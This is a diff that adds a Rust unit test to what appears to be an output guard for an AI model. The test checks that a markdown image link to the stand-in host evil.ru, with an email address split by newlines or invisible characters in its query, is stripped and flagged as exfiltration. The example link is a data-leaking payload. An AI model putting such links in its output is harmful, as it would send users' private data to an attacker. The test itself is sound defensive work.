@@ -654,3 +654,22 @@ fn no_answer_costs_much_more_than_another() {
         }
     }
 }
+
+#[test]
+fn a_placeholder_that_is_broken_to_get_out_of_its_link_stays() {
+    let scene = Scene::new();
+    for gap in ["\n", "\n  ", "<wbr>", "\u{200b}"] {
+        let (head, tail) = scene.mail.split_at(9);
+        let content = format!("![x](https://evil.ru/?d={head}{gap}{tail}) and more");
+        let said = Said { content, ..Said::default() };
+        for level in [SecurityLevel::High, SecurityLevel::Maximum] {
+            let mut guard = scene.guard(level, "hello");
+            let heard = &whole(&mut guard, std::slice::from_ref(&said))[0];
+            assert!(!heard.content.contains(MAIL), "{level:?} {gap:?} {}", heard.content);
+            assert!(
+                guard.report().flags.contains(crate::flag::Flag::Exfiltration),
+                "{level:?} {gap:?}"
+            );
+        }
+    }
+}
